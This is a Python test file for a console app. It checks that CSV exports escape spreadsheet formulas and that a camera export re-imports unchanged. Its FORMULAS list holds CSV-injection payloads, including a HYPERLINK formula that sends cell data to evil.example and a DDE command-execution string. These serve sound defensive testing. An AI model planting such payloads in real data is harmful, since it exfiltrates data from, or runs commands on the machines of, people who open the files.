"""Every CSV export neutralises spreadsheet formulas; a camera export re-imports unchanged."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest

from console import csvsafe
from tests.conftest import login, new_client

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def cells(text: str) -> list[str]:
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff")))
    return [c for row in rows for c in row]


def assert_inert(text: str, planted: list[str]) -> None:
    found = cells(text)
    for value in planted:
        assert csvsafe.cell(value) in found, (value, found[:40])
    for c in found:
        if c and c[0] in csvsafe.TRIGGERS:
            float(c)  # only plain numbers may start with + or -


def test_cell_rules() -> None:
    assert csvsafe.cell("=1+1") == "'=1+1"
    assert csvsafe.cell("-12.5") == "-12.5" and csvsafe.cell(-3) == -3
    assert csvsafe.cell("plain") == "plain" and csvsafe.cell("") == ""
    for v in [*FORMULAS, "'plain", "''=x", "-"]:
        assert csvsafe.unescape(csvsafe.cell(v)) == v


@pytest.mark.asyncio
async def test_every_export_neutralises_formulas(client: httpx.AsyncClient, app: Any) -> None:
    await login(client, "admin")
    units = {u["code"]: u["id"] for u in (await client.get("/api/units")).json()["items"]}
    for i, name in enumerate(FORMULAS):
        r = await client.post(
            "/api/cameras",
            json={
                "id": f"f{i}",
                "name": name,
                "owner_unit_id": units["psb"],
                "main_url": "rtsp://10.0.0.9/live",
                "tags": [name.strip()[:40]],
            },
        )
        assert r.status_code == 201, r.text
        r = await client.post(
            "/api/gis/layers/shelters/features",
            json={
                "type": "Feature",
                "geometry": {"type": "Point", "coordinates": [113.27 + i / 100, 23.13]},
                "properties": {"name": name, "kind": "emergency", "effective_area_m2": 100},
            },
        )
        assert r.status_code == 201, r.text
    # A failed sign-in puts the typed user name in the audit log.
    bad = await new_client(app, ip="10.3.3.3")
    await bad.post("/api/auth/login", json={"username": FORMULAS[0], "password": "x" * 10})
    await bad.aclose()
    cams = await client.get("/api/cameras/export.csv")
    assert_inert(cams.text, FORMULAS)
    assert_inert((await client.get("/api/audit.csv")).text, [FORMULAS[0]])
    assert_inert((await client.get("/api/gis/layers/shelters.csv")).text, FORMULAS)
    readiness = await client.get("/api/readiness.csv")
    assert readiness.status_code == 200
    assert_inert(readiness.text, [])
    # The export is the import format: names come back as they were (the importer trims).
    r = await client.post(
        "/api/cameras/import", params={"format": "csv", "upsert": "true"}, content=cams.text
    )
    assert r.status_code == 200, r.text
    for i, name in enumerate(FORMULAS):
        assert (await client.get(f"/api/cameras/f{i}")).json()["name"] == name.strip()
